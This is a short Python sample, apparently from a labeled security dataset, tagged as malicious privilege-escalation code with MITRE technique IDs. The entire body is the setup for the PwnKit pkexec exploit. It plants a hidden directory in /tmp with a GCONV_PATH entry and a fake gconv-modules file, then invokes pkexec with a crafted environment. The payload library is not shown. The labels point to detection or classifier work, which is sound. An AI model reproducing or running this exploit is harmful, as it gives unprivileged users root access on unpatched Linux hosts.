# label: malicious family=privesc techniques=T1068,T1222.002,T1564.001 lines=3,7-8
import os, shutil, subprocess
os.makedirs("/tmp/.pk/GCONV_PATH=.", exist_ok=True)
open("/tmp/.pk/GCONV_PATH=./pwn", "w").close()
os.chmod("/tmp/.pk/GCONV_PATH=./pwn", 0o755)
os.makedirs("/tmp/.pk/pwn", exist_ok=True)
open("/tmp/.pk/pwn/gconv-modules", "w").write("module UTF-8// PWN// pwn 2\n")
subprocess.call(["/usr/bin/pkexec"], env={"PATH": "GCONV_PATH=.", "CHARSET": "PWN", "SHELL": "pwn"}, cwd="/tmp/.pk")
